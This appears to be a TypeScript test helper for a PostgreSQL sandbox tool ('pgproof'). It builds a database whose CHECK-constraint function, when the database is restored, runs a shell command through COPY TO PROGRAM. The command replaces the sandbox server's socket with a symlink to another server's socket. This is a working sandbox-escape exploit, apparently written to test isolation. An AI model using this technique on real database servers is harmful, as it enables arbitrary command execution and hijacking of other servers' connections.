import type { Cluster } from '../../cluster.ts';

/** SQL that, run by a sandbox's server and by no other, puts a link to another server's socket in place of its own. */
export function climb(victim: Pick<Cluster, 'socket' | 'port'>): string {
  const target = `${victim.socket}/.s.PGSQL.${victim.port}`;
  const program = `cat > /dev/null; cd ../socket && mv .s.PGSQL.5432 moved && ln -s ${target} .s.PGSQL.5432`;
  return `if current_setting('cluster_name') = 'pgproof sandbox' then copy (select) to program '${program}'; end if;`;
}

/** Makes a database that does so when it is restored: a row is let in by a function that climbs. */
export async function makeClimber(cluster: Cluster, database: string, victim: Cluster): Promise<void> {
  await cluster.sql('postgres', `create database ${database} template template0`);
  await cluster.sql(
    database,
    `create function climb() returns boolean language plpgsql as $$ begin ${climb(victim)} return true; end $$;
     create table ladder (rung int check (climb()));
     insert into ladder values (1);`,
  );
}
